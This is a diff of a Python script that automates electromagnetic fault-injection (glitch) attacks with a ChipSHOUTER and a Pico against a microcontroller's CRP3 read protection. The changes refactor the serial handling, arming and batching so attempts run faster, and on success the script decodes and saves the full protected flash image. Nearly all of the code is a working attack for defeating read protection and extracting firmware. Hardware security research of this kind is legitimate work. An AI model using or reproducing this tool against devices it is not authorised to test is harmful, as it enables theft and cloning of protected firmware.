@@ -6,40 +6,70 @@ Optimized for speed - does setup once, then rapidly tests glitch attempts.
 Captures flash dump on success.
 """
 
+import binascii
 import serial
 import time
 import csv
-import os
+import re
 from datetime import datetime
 
+from chipshouter_io import API_END_RE, line_reader, read_reply, send_batch, set_latency_timer
+
 SERIAL_PORT = '/dev/ttyACM0'
 BAUD_RATE = 115200
 
+FLASH_SIZE = 516096  # 504KB
+
+# Fixed command bytes, built once rather than formatted per attempt
+API_ON = b"API ON\r\n"
+API_OFF = b"API OFF\r\n"
+ARM_ON = b"ARM ON\r\n"
+SYNC_CMD = b"TARGET SYNC 115200 12000 10 1\r\n"
+READ_PREAMBLE = API_OFF + b"TARGET TIMEOUT 10\r\n"
+CMD_R_TEST = b'TARGET SEND "R 0 4"\r\n'
+CMD_R_FULL = b'TARGET SEND "R 0 %d"\r\n' % FLASH_SIZE
+CMD_OK = b'TARGET SEND "OK"\r\n'
+
+# CS STATUS matchers; \b keeps ARMED_RE from matching inside "disarmed"
+ARMED_RE = re.compile(rb'\barmed\b')
+DISARMED_RE = re.compile(rb'\bdisarmed\b')
+FAULT_RE = re.compile(rb'fault')
+
+def drain(ser):
+    """Discard pending input, including bytes in_waiting hasn't reported yet"""
+    ser.reset_input_buffer()
+
+def wait_prompt(ser, timeout=1.0):
+    """Wait for the prompts that end a command, then discard pending input"""
+    read_reply(ser, timeout=timeout)
+    drain(ser)
+
+def open_port(port=SERIAL_PORT, baudrate=BAUD_RATE):
+    """Open the Pico's serial port with DTR/RTS fixed high"""
+    ser = serial.Serial(baudrate=baudrate, timeout=1.0)
+    ser.port = port
+    # Applied as the port opens and never changed, so the lines don't toggle
+    ser.dtr = True
+    ser.rts = True
+    ser.open()
+    set_latency_timer(ser)
+    return ser
+
 def fast_cmd(ser, cmd, timeout=1.0, check=True):
     """Send command, wait for response, optionally check for errors"""
-    ser.read(ser.in_waiting)
+    drain(ser)
     ser.write(f"{cmd}\r\n".encode())
-    time.sleep(0.03)
-
-    response = ''
-    start = time.time()
-    while time.time() - start < timeout:
-        if ser.in_waiting > 0:
-            data = ser.read(ser.in_waiting).decode('utf-8', errors='ignore')
-            response += data
-            if '+' in response or '!' in response:
-                # Give a bit more time for full response
-                time.sleep(0.1)
-                if ser.in_waiting > 0:
-                    response += ser.read(ser.in_waiting).decode('utf-8', errors='ignore')
-                break
-        time.sleep(0.01)
+
+    # The API '+'/'!' status and prompt end the command; read_reply consumes
+    # the second prompt too so it can't leak into the next read
+    response, _ = read_reply(ser, API_END_RE, timeout)
 
     if check and cmd.upper().startswith('CS'):
-        # Print CS responses for debugging
-        resp_clean = response.replace('\r', ' ').replace('\n', ' ').strip()
+        # Print CS responses for debugging (decoded only here, for display)
+        resp_clean = response.decode('utf-8', errors='ignore')
+        resp_clean = resp_clean.replace('\r', ' ').replace('\n', ' ').strip()
         # Check for actual errors - note VALUE ERROR in hwtrig_mode response is normal
-        is_error = '!' in response or 'fault' in resp_clean.lower()
+        is_error = b'!' in response or 'fault' in resp_clean.lower()
         if 'Command Not Found' in resp_clean:
             is_error = True
         # VALUE ERROR for hwtrig_mode is just ChipSHOUTER's quirky output, not a real error
@@ -50,21 +80,37 @@ def fast_cmd(ser, cmd, timeout=1.0, check=True):
 
     return response
 
+def fast_cmds(ser, cmds, timeout=3.0):
+    """Send several commands in one write and wait for all their API statuses.
+
+    timeout is per command (CS commands can take ~2s). Returns the combined
+    response.
+    """
+    response, _ = send_batch(ser, cmds, API_END_RE, timeout)
+    return response
+
+def wait_sync(ser, timeout=2.6):
+    """Wait for TARGET SYNC to finish and return its output.
+
+    Returns at the prompt, as soon as the firmware reports completion or an
+    error, instead of sleeping for the worst case; timeout is only the ceiling.
+    """
+    response, _ = read_reply(ser, timeout=timeout)
+    return response
+
 def sync_target(ser):
     """Sync with target, return True if successful"""
-    ser.write(b"API OFF\r\n")
-    time.sleep(0.03)
-    ser.read(ser.in_waiting)
+    drain(ser)
+    ser.write(API_OFF)
+    wait_prompt(ser)
 
-    ser.write(b"TARGET SYNC 115200 12000 10 1\r\n")
-    time.sleep(1.5)
-    response = ser.read(ser.in_waiting).decode('utf-8', errors='ignore')
+    ser.write(SYNC_CMD)
+    response = wait_sync(ser)
 
-    ser.write(b"API ON\r\n")
-    time.sleep(0.03)
-    ser.read(ser.in_waiting)
+    ser.write(API_ON)
+    wait_prompt(ser)
 
-    return 'sync complete' in response.lower()
+    return b'sync complete' in response
 
 def sync_target_with_glitch(ser):
     """Sync with target, arming glitch BEFORE reset (for GPIO boot glitching).
@@ -72,170 +118,168 @@ def sync_target_with_glitch(ser):
     # ARM the glitch FIRST - it will fire on GPIO RISING (reset release)
     fast_cmd(ser, "ARM ON", check=False)
 
-    ser.write(b"API OFF\r\n")
-    time.sleep(0.03)
-    ser.read(ser.in_waiting)
+    ser.write(API_OFF)
+    wait_prompt(ser)
 
     # This resets target, which triggers the glitch on reset release
-    ser.write(b"TARGET SYNC 115200 12000 10 1\r\n")
-    time.sleep(1.5)
-    response = ser.read(ser.in_waiting).decode('utf-8', errors='ignore')
+    ser.write(SYNC_CMD)
+    response = wait_sync(ser)
 
-    ser.write(b"API ON\r\n")
-    time.sleep(0.03)
-    ser.read(ser.in_waiting)
+    ser.write(API_ON)
+    wait_prompt(ser)
 
-    return 'sync complete' in response.lower()
+    return b'sync complete' in response
 
 def get_cs_status(ser):
-    """Query CS STATUS and return response"""
-    ser.read(ser.in_waiting)
+    """Query CS STATUS and return the lowercased response as bytes"""
+    drain(ser)
     ser.write(b"CS STATUS\r\n")
-    time.sleep(0.5)  # CS STATUS takes ~0.4s to respond fully
-    return ser.read(ser.in_waiting).decode('utf-8', errors='ignore').lower()
+    # CS STATUS takes ~0.4s; return as soon as its prompt arrives
+    response, _ = read_reply(ser, timeout=1.0)
+    return response.lower()
+
+def cs_armed(resp):
+    """True if a CS STATUS response shows armed with no fault"""
+    return ARMED_RE.search(resp) is not None and FAULT_RE.search(resp) is None
 
 def ensure_cs_ready(ser, voltage):
     """Ensure CS is armed and ready. Reset if fault, re-arm if disarmed."""
     resp = get_cs_status(ser)
+    # Already armed (the usual case): this status is the verification, so
+    # don't spend a second ~0.4s CS STATUS round trip on it
+    if cs_armed(resp):
+        return True
+
+    fault = FAULT_RE.search(resp) is not None
+    disarmed = DISARMED_RE.search(resp) is not None
+    arming = fault or disarmed
 
     # Check for fault state - must reset
-    if 'fault' in resp:
+    if fault:
         print(" [FAULT-RESET]", end='', flush=True)
-        fast_cmd(ser, "CS RESET", check=False)
-        time.sleep(1.0)
-        # Wait for reset to complete (disarmed state)
+        # CS RESET blocks for 5s+ while the ChipSHOUTER reboots; wait for
+        # its prompt so no CS STATUS queues up behind it
+        drain(ser)
+        ser.write(b"CS RESET\r\n")
+        wait_prompt(ser, timeout=8.0)
+        # Wait for reset to complete (disarmed state); each query blocks
+        # until the status arrives, so no extra sleep between polls
         for _ in range(50):
             resp = get_cs_status(ser)
-            if 'disarmed' in resp and 'fault' not in resp:
+            if DISARMED_RE.search(resp) and not FAULT_RE.search(resp):
                 break
-            time.sleep(0.1)
-        # Set voltage after reset
-        fast_cmd(ser, f"CS VOLTAGE {voltage}", check=False)
-        time.sleep(0.2)
-        fast_cmd(ser, "CS TRIGGER HW HIGH", check=False)
-        resp = get_cs_status(ser)
-
-    # If disarmed, arm it
-    if 'disarmed' in resp:
+        # Restore settings and re-arm in one chained write
+        fast_cmds(ser, [f"CS VOLTAGE {voltage}", "CS TRIGGER HW HIGH", "CS ARM"])
+    elif disarmed:
+        # If disarmed, arm it
         fast_cmd(ser, "CS ARM", check=False)
-        time.sleep(0.3)
+
+    if arming:
         # Wait for armed state
         for _ in range(50):
             resp = get_cs_status(ser)
-            if 'armed' in resp and 'disarmed' not in resp and 'fault' not in resp:
+            if cs_armed(resp):
                 break
-            time.sleep(0.1)
 
     # Final verify
-    resp = get_cs_status(ser)
-    return 'armed' in resp and 'disarmed' not in resp and 'fault' not in resp
-
-def test_crp_bypass(ser, test_only=False, no_save=False):
+    return cs_armed(get_cs_status(ser))
+
+def end_read(ser):
+    """Return to API mode after a read attempt.
+
+    Anything the target is still streaming (a partial dump, or garbage after
+    a crash) is discarded before and after API ON, so it can't be read as
+    the next attempt's output.
+    """
+    drain(ser)
+    ser.write(API_ON)
+    wait_prompt(ser)
+
+def send_read(ser, read_cmd, arm=True, skip_blank=False):
+    """Send the ISP read preamble and R command in one write.
+
+    [ARM ON,] API OFF, TARGET TIMEOUT 10 and read_cmd (CMD_R_TEST or
+    CMD_R_FULL) are queued by the CLI and run in order, so there are no
+    round trips between them. Returns a read_line() positioned just after
+    the firmware echo of TARGET SEND, or None if that echo never arrived.
+    """
+    drain(ser)
+    ser.write((ARM_ON if arm else b"") + READ_PREAMBLE + read_cmd)
+
+    read_line = line_reader(ser, ser.timeout, skip_blank=skip_blank)
+    # Skip the earlier commands' output up to the firmware echo; blank lines
+    # come back as None, so keep going until the deadline
+    deadline = time.monotonic() + 1.0
+    while time.monotonic() < deadline:
+        line = read_line()
+        if line and b'TARGET SEND' in line:
+            return read_line
+    return None
+
+def test_crp_bypass(ser, read_cmd=CMD_R_FULL, test_only=False, no_save=False):
     """Check if CRP is bypassed (for GPIO boot glitch mode - glitch already fired).
-    Returns result code."""
+    read_cmd is CMD_R_TEST (4 bytes) or CMD_R_FULL. Returns result code."""
     # Don't arm - glitch already fired during boot
 
     # Send R command for flash - check if CRP was bypassed
-    ser.write(b"API OFF\r\n")
-    time.sleep(0.03)
-    ser.read(ser.in_waiting)
-
-    # Set fast timeout
-    ser.write(b"TARGET TIMEOUT 10\r\n")
-    time.sleep(0.05)
-    ser.read(ser.in_waiting)
-
-    # Read size: 4 bytes for test-only, full flash otherwise
-    num_bytes = 4 if test_only else 516096
-    ser.write(f'TARGET SEND "R 0 {num_bytes}"\r\n'.encode())
-
-    def read_line():
-        line = ser.read_until(b'\r').decode('utf-8', errors='ignore').strip()
-        return line if line else None
+    read_line = send_read(ser, read_cmd, arm=False)
 
     # Read echo lines
-    read_line()  # firmware echo
-    read_line()  # target echo
-    error_line = read_line()
+    error_line = None
+    if read_line:
+        read_line()  # target echo
+        error_line = read_line()
 
     if not error_line:
-        ser.write(b"API ON\r\n")
-        time.sleep(0.03)
-        ser.read(ser.in_waiting)
+        end_read(ser)
         return 'CRASH'
 
-    if error_line and len(error_line) > 0 and error_line[0] == '0':
+    if error_line[:1] == b'0':
         # SUCCESS! CRP bypassed
-        ser.write(b"API ON\r\n")
-        time.sleep(0.1)
-        ser.read(ser.in_waiting)
+        end_read(ser)
         return 'SUCCESS'
 
-    if error_line and '19' in error_line:
-        ser.write(b"API ON\r\n")
-        time.sleep(0.03)
-        ser.read(ser.in_waiting)
+    if b'19' in error_line:
+        end_read(ser)
         return 'CRP_BLOCKED'
 
-    ser.write(b"API ON\r\n")
-    time.sleep(0.03)
-    ser.read(ser.in_waiting)
+    end_read(ser)
     return 'UNKNOWN'
 
-def test_glitch(ser, output_file=None, voltage=200, test_only=False, no_save=False):
-    """Run one glitch attempt with flash read, return result code"""
+def test_glitch(ser, read_cmd=CMD_R_FULL, output_file=None, voltage=200, test_only=False, no_save=False):
+    """Run one glitch attempt with flash read, return result code.
+    read_cmd is CMD_R_TEST (4 bytes) or CMD_R_FULL."""
     # Ensure CS is armed and ready BEFORE each glitch (like glitch_heatmap.py)
     if not ensure_cs_ready(ser, voltage):
         print(" [CS NOT READY]", end='', flush=True)
         return 'CRASH'
 
-    # ARM the Pico trigger
-    fast_cmd(ser, "ARM ON", check=False)
-
-    # Send R command for flash (glitch fires on \r echo)
-    ser.write(b"API OFF\r\n")
-    time.sleep(0.03)
-    ser.read(ser.in_waiting)
-
-    # Set fast timeout
-    ser.write(b"TARGET TIMEOUT 10\r\n")
-    time.sleep(0.05)
-    ser.read(ser.in_waiting)
-
-    # Read size: 4 bytes for test-only, full flash otherwise
-    num_bytes = 4 if test_only else 516096
-    ser.write(f'TARGET SEND "R 0 {num_bytes}"\r\n'.encode())
-
-    def read_line():
-        line = ser.read_until(b'\r').decode('utf-8', errors='ignore').strip()
-        return line if line else None
+    # ARM the Pico trigger and send R command for flash (glitch fires on \r echo)
+    read_line = send_read(ser, read_cmd)
 
     # Read echo lines
-    read_line()  # firmware echo
-    read_line()  # target echo
-    error_line = read_line()
+    error_line = None
+    if read_line:
+        read_line()  # target echo
+        error_line = read_line()
 
     if not error_line:
-        ser.write(b"API ON\r\n")
-        time.sleep(0.03)
-        ser.read(ser.in_waiting)
+        end_read(ser)
         return 'CRASH'
 
-    if error_line[0] == '0':
+    if error_line[:1] == b'0':
         # SUCCESS! CRP bypassed
         if test_only or no_save:
             # Just drain the response and return success - next reset will tidy up
-            ser.write(b"API ON\r\n")
-            time.sleep(0.1)
-            ser.read(ser.in_waiting)
+            end_read(ser)
             return 'SUCCESS'
 
         # Full dump mode - read all the UUE data and save
         print("  Error code 0 - reading flash...", flush=True)
 
-        full_bytes = 516096
-        expected_lines = (full_bytes + 44) // 45
-        uuencoded_lines = []
+        expected_lines = (FLASH_SIZE + 44) // 45
+        flash = bytearray()
+        lines_read = 0
         lines_remaining = expected_lines
         first_chunk = True
 
@@ -251,97 +295,69 @@ def test_glitch(ser, output_file=None, voltage=200, test_only=False, no_save=Fal
             for i in range(chunk_size):
                 line = read_line()
                 if not line:
-                    ser.write(b"API ON\r\n")
+                    end_read(ser)
+                    return 'READ_ERROR'
+                try:
+                    flash += binascii.a2b_uu(line)
+                except binascii.Error:
+                    end_read(ser)
                     return 'READ_ERROR'
-                uuencoded_lines.append(line)
+            lines_read += chunk_size
 
             read_line()  # checksum
             lines_remaining -= chunk_size
 
-            if len(uuencoded_lines) % 1000 == 0:
-                print(f"    {len(uuencoded_lines)}/{expected_lines} lines", flush=True)
+            if lines_read % 1000 == 0:
+                print(f"    {lines_read}/{expected_lines} lines", flush=True)
 
             if lines_remaining > 0:
-                ser.write(b'TARGET SEND "OK"\r\n')
+                ser.write(CMD_OK)
 
         read_line()  # end marker
 
-        ser.write(b"API ON\r\n")
-        time.sleep(0.03)
-        ser.read(ser.in_waiting)
+        end_read(ser)
 
-        # Save to UUE file
+        # Save decoded flash image
         if output_file:
-            base_name = os.path.splitext(os.path.basename(output_file))[0]
-            with open(output_file, 'w') as f:
-                f.write(f"begin 644 {base_name}.bin\n")
-                for line in uuencoded_lines:
-                    f.write(line.replace('`', ' ') + '\n')
-                f.write(" \n")
-                f.write("end\n")
-            print(f"  Flash saved to: {output_file}", flush=True)
+            with open(output_file, 'wb') as f:
+                f.write(flash)
+            print(f"  Flash saved to: {output_file} ({len(flash)} bytes)", flush=True)
 
         return 'SUCCESS'
 
-    elif '19' in error_line:
-        ser.write(b"API ON\r\n")
-        time.sleep(0.03)
-        ser.read(ser.in_waiting)
+    elif b'19' in error_line:
+        end_read(ser)
         return 'CRP_BLOCKED'
 
     else:
-        ser.write(b"API ON\r\n")
-        time.sleep(0.03)
-        ser.read(ser.in_waiting)
+        end_read(ser)
         return 'CRASH'
 
 def read_full_flash(ser, output_file):
-    """Read full flash memory and save to UUE file"""
+    """Read full flash memory and save the decoded image to a binary file"""
     print("Reading full flash memory...", flush=True)
 
-    # ARM for the read
-    fast_cmd(ser, "ARM ON")
-
-    ser.write(b"API OFF\r\n")
-    time.sleep(0.03)
-    ser.read(ser.in_waiting)
-
-    # Set fast timeout
-    ser.write(b"TARGET TIMEOUT 10\r\n")
-    time.sleep(0.1)
-    ser.read(ser.in_waiting)
-
-    # Send R command for full flash (504KB = 516096 bytes)
-    address = 0
-    num_bytes = 516096
-    cmd = f"R {address} {num_bytes}"
-
-    ser.write(f'TARGET SEND "{cmd}"\r\n'.encode())
-
-    def read_line():
-        while True:
-            line = ser.read_until(b'\r').decode('utf-8', errors='ignore').strip()
-            if line:
-                return line
-            if not ser.in_waiting:
-                return None
+    # ARM for the read and send R command for full flash
+    read_line = send_read(ser, CMD_R_FULL, skip_blank=True)
 
     # Read echo lines
-    read_line()  # firmware echo
-    read_line()  # target echo
-    error_line = read_line()
-
-    if not error_line or error_line[0] != '0':
-        print(f"  Flash read failed: error {error_line}", flush=True)
-        ser.write(b"API ON\r\n")
-        time.sleep(0.1)
+    error_line = None
+    if read_line:
+        read_line()  # target echo
+        error_line = read_line()
+
+    if not error_line or error_line[:1] != b'0':
+        error = error_line.decode('utf-8', errors='ignore') if error_line else None
+        print(f"  Flash read failed: error {error}", flush=True)
+        end_read(ser)
         return False
 
     print(f"  Error code 0 - reading UUE data...", flush=True)
 
     # Read UUE data
-    expected_lines = (num_bytes + 44) // 45
-    uuencoded_lines = []
+    expected_lines = (FLASH_SIZE + 44) // 45
+    flash = bytearray()
+    lines_read = 0
     lines_remaining = expected_lines
     first_chunk = True
 
@@ -357,39 +373,38 @@ def read_full_flash(ser, output_file):
         for i in range(chunk_size):
             line = read_line()
             if not line:
-                print(f"  Timeout at line {len(uuencoded_lines) + i}", flush=True)
-                ser.write(b"API ON\r\n")
+                print(f"  Timeout at line {lines_read + i}", flush=True)
+                end_read(ser)
                 return False
-            uuencoded_lines.append(line)
+            try:
+                flash += binascii.a2b_uu(line)
+            except binascii.Error as e:
+                print(f"  Bad UUE line {lines_read + i}: {e}", flush=True)
+                end_read(ser)
+                return False
+        lines_read += chunk_size
 
         # Read checksum
         checksum_line = read_line()
 
         lines_remaining -= chunk_size
 
-        if len(uuencoded_lines) % 500 == 0:
-            print(f"  Progress: {len(uuencoded_lines)}/{expected_lines} lines", flush=True)
+        if lines_read % 500 == 0:
+            print(f"  Progress: {lines_read}/{expected_lines} lines", flush=True)
 
         if lines_remaining > 0:
-            ser.write(b'TARGET SEND "OK"\r\n')
+            ser.write(CMD_OK)
 
     # Read end marker
     read_line()
 
-    ser.write(b"API ON\r\n")
-    time.sleep(0.1)
-    ser.read(ser.in_waiting)
+    end_read(ser)
 
-    # Save to UUE file
-    base_name = os.path.splitext(os.path.basename(output_file))[0]
-    with open(output_file, 'w') as f:
-        f.write(f"begin 644 {base_name}.bin\n")
-        for line in uuencoded_lines:
-            f.write(line.replace('`', ' ') + '\n')
-        f.write(" \n")
-        f.write("end\n")
+    # Save decoded flash image
+    with open(output_file, 'wb') as f:
+        f.write(flash)
 
-    print(f"  Flash saved to: {output_file}", flush=True)
+    print(f"  Flash saved to: {output_file} ({len(flash)} bytes)", flush=True)
     return True
 
 def main():
@@ -413,61 +428,47 @@ def main():
     print(f"=== Fast CRP3 Glitch: {args.voltage}V, pause={args.pause}, width={args.width} ({mode}) ===")
     print(f"Iterations: {args.iterations}, Trigger: {trig_mode}")
 
-    ser = serial.Serial(SERIAL_PORT, BAUD_RATE, timeout=1.0)
+    ser = open_port()
     time.sleep(0.3)
 
     # Initial setup (done once)
     print("\nSetting up...")
-    ser.write(b"API ON\r\n")
-    time.sleep(0.1)
-    ser.read(ser.in_waiting)
+    ser.write(API_ON)
+    wait_prompt(ser)
 
     fast_cmd(ser, "RESET")
     time.sleep(0.3)
-    ser.write(b"API ON\r\n")
-    time.sleep(0.1)
-    ser.read(ser.in_waiting)
+    ser.write(API_ON)
+    wait_prompt(ser)
 
     fast_cmd(ser, "TARGET LPC")
 
     # CS RESET - send and wait for not-fault state
     print("  [CS] CS RESET...", end='', flush=True)
-    ser.read(ser.in_waiting)
+    drain(ser)
     ser.write(b"CS RESET\r\n")
-    time.sleep(0.1)
-    ser.read(ser.in_waiting)
+    # CS RESET blocks for 5s+ while the ChipSHOUTER reboots
+    wait_prompt(ser, timeout=8.0)
     for _ in range(100):
         resp = get_cs_status(ser)
-        if 'fault' not in resp:
+        # An empty or partial reply is no evidence the fault has cleared
+        reported = ARMED_RE.search(resp) or DISARMED_RE.search(resp)
+        if reported and not FAULT_RE.search(resp):
             break
-        time.sleep(0.1)
-    print(" OK", flush=True)
-
-    # Set voltage
-    print(f"  [CS] CS VOLTAGE {args.voltage}...", end='', flush=True)
-    fast_cmd(ser, f"CS VOLTAGE {args.voltage}", check=False)
-    time.sleep(0.3)
-    print(" OK", flush=True)
-
-    # Set HW trigger mode
-    print("  [CS] CS TRIGGER HW HIGH...", end='', flush=True)
-    fast_cmd(ser, "CS TRIGGER HW HIGH", check=False)
-    time.sleep(0.2)
     print(" OK", flush=True)
 
-    # Arm and wait for armed state
-    print("  [CS] CS ARM...", end='', flush=True)
-    fast_cmd(ser, "CS ARM", check=False)
-    time.sleep(0.3)
+    # Set voltage, HW trigger mode and arm in one chained write, then
+    # wait for armed state
+    print(f"  [CS] CS VOLTAGE {args.voltage}, TRIGGER HW HIGH, ARM...", end='', flush=True)
+    fast_cmds(ser, [f"CS VOLTAGE {args.voltage}", "CS TRIGGER HW HIGH", "CS ARM"])
     # Wait for armed state
     for _ in range(50):
         resp = get_cs_status(ser)
-        if 'armed' in resp and 'disarmed' not in resp and 'fault' not in resp:
+        if cs_armed(resp):
             break
-        time.sleep(0.1)
     resp = get_cs_status(ser)
-    if 'armed' not in resp or 'disarmed' in resp:
-        print(f" FAILED: {resp[:50]}")
+    if not ARMED_RE.search(resp):
+        print(f" FAILED: {resp[:50].decode('utf-8', errors='ignore')}")
         ser.close()
         return
     print(" OK", flush=True)
@@ -485,80 +486,93 @@ def main():
 
     print("Setup complete", flush=True)
 
+    # Read size: 4 bytes for test-only, full flash otherwise
+    read_cmd = CMD_R_TEST if args.test_only else CMD_R_FULL
+
     # CSV log
     timestamp = datetime.now().strftime('%Y%m%d_%H%M%S')
     csv_file = f"crp3_fast_V{args.voltage}_P{args.pause}_{timestamp}.csv"
 
     results = {'SUCCESS': 0, 'CRP_BLOCKED': 0, 'CRASH': 0, 'UNKNOWN': 0, 'SYNC_FAIL': 0}
-    start_time = time.time()
+    # Monotonic clock: an NTP step can't fake a fault-check interval or skew elapsed
+    start_time = time.monotonic()
     last_fault_check = start_time
 
-    with open(csv_file, 'w', newline='') as f:
+    # Rows are written in batches of 100 (the progress cadence), not per attempt
+    batch = []
+    with open(csv_file, 'w', newline='', buffering=1 << 16) as f:
         writer = csv.writer(f)
         writer.writerow(['iteration', 'result', 'elapsed'])
 
-        for i in range(args.iterations):
-            # Periodic fault check (every 60 seconds)
-            if time.time() - last_fault_check >= 60:
-                resp = get_cs_status(ser)
-                if 'fault' in resp:
-                    print("\n  [Fault detected - clearing...]", end='', flush=True)
-                    fast_cmd(ser, "CS CLEAR FAULTS", check=False)
-                    time.sleep(0.5)
+        try:
+            for i in range(args.iterations):
+                # Periodic fault check (every 60 seconds)
+                now = time.monotonic()
+                if now - last_fault_check >= 60:
                     resp = get_cs_status(ser)
-                    if 'fault' in resp:
-                        print(" reset needed...", end='', flush=True)
-                        ensure_cs_ready(ser, args.voltage)
-                    else:
-                        fast_cmd(ser, "CS ARM", check=False)
-                    print(" OK")
-                last_fault_check = time.time()
-
-            # Sync target - GPIO mode arms before reset, UART mode after
-            print(f"[{i+1}] ", end='', flush=True)
-
-            if args.trigger in ('gpio', 'gpio-fall'):
-                # GPIO mode: ensure CS armed, then sync with glitch armed (fires on reset)
-                if not ensure_cs_ready(ser, args.voltage):
-                    print("[CS NOT READY] CRASH", flush=True)
-                    results['CRASH'] += 1
-                    continue
-                print("Glitch+Sync...", end='', flush=True)
-                if not sync_target_with_glitch(ser):
-                    print(" SYNC_FAIL", flush=True)
-                    results['SYNC_FAIL'] += 1
-                    continue
-                print(" OK, checking...", end='', flush=True)
-                # Check if CRP was bypassed (glitch already fired during boot)
-                result = test_crp_bypass(ser, test_only=args.test_only, no_save=args.no_save)
-            else:
-                # UART mode: sync first, then glitch on READ command
-                print("Syncing...", end='', flush=True)
-                if not sync_target(ser):
-                    print(" FAIL", flush=True)
-                    results['SYNC_FAIL'] += 1
-                    continue
-                print(" OK, testing...", end='', flush=True)
-                # Test glitch
-                uue_file = None if (args.test_only or args.no_save) else f"crp3_flash_{timestamp}.uue"
-                result = test_glitch(ser, output_file=uue_file, voltage=args.voltage,
-                                   test_only=args.test_only, no_save=args.no_save)
-
-            print(f" {result}", flush=True)
-            results[result] = results.get(result, 0) + 1
-
-            elapsed = time.time() - start_time
-            writer.writerow([i+1, result, f"{elapsed:.2f}"])
-
-            if (i+1) % 100 == 0:
-                rate = (i+1) / elapsed
-                print(f"[{i+1}] S={results.get('SUCCESS',0)} B={results.get('CRP_BLOCKED',0)} C={results.get('CRASH',0)} ({rate:.1f}/s)")
-
-            if result == 'SUCCESS' and not args.test_only and not args.no_save:
-                print(f"\n*** SUCCESS at attempt {i+1}! ***")
-                break
-
-    elapsed = time.time() - start_time
+                    if FAULT_RE.search(resp):
+                        print("\n  [Fault detected - clearing...]", end='', flush=True)
+                        fast_cmd(ser, "CS CLEAR FAULTS", check=False)
+                        time.sleep(0.5)
+                        resp = get_cs_status(ser)
+                        if FAULT_RE.search(resp):
+                            print(" reset needed...", end='', flush=True)
+                            ensure_cs_ready(ser, args.voltage)
+                        else:
+                            fast_cmd(ser, "CS ARM", check=False)
+                        print(" OK")
+                    last_fault_check = now
+
+                # Sync target - GPIO mode arms before reset, UART mode after
+                print(f"[{i+1}] ", end='', flush=True)
+
+                if args.trigger in ('gpio', 'gpio-fall'):
+                    # GPIO mode: ensure CS armed, then sync with glitch armed (fires on reset)
+                    if not ensure_cs_ready(ser, args.voltage):
+                        print("[CS NOT READY] CRASH", flush=True)
+                        results['CRASH'] += 1
+                        continue
+                    print("Glitch+Sync...", end='', flush=True)
+                    if not sync_target_with_glitch(ser):
+                        print(" SYNC_FAIL", flush=True)
+                        results['SYNC_FAIL'] += 1
+                        continue
+                    print(" OK, checking...", end='', flush=True)
+                    # Check if CRP was bypassed (glitch already fired during boot)
+                    result = test_crp_bypass(ser, read_cmd, test_only=args.test_only, no_save=args.no_save)
+                else:
+                    # UART mode: sync first, then glitch on READ command
+                    print("Syncing...", end='', flush=True)
+                    if not sync_target(ser):
+                        print(" FAIL", flush=True)
+                        results['SYNC_FAIL'] += 1
+                        continue
+                    print(" OK, testing...", end='', flush=True)
+                    # Test glitch
+                    flash_file = None if (args.test_only or args.no_save) else f"crp3_flash_{timestamp}.bin"
+                    result = test_glitch(ser, read_cmd, output_file=flash_file, voltage=args.voltage,
+                                       test_only=args.test_only, no_save=args.no_save)
+
+                print(f" {result}", flush=True)
+                results[result] = results.get(result, 0) + 1
+
+                elapsed = time.monotonic() - start_time
+                batch.append([i+1, result, f"{elapsed:.2f}"])
+
+                if (i+1) % 100 == 0:
+                    writer.writerows(batch)
+                    batch.clear()
+                    rate = (i+1) / elapsed
+                    print(f"[{i+1}] S={results.get('SUCCESS',0)} B={results.get('CRP_BLOCKED',0)} C={results.get('CRASH',0)} ({rate:.1f}/s)")
+
+                if result == 'SUCCESS' and not args.test_only and not args.no_save:
+                    print(f"\n*** SUCCESS at attempt {i+1}! ***")
+                    break
+        finally:
+            # Flush the partial batch on SUCCESS, exit or Ctrl-C
+            writer.writerows(batch)
+
+    elapsed = time.monotonic() - start_time
     total = sum(results.values())
 
     print(f"\n=== SUMMARY ({args.voltage}V) ===")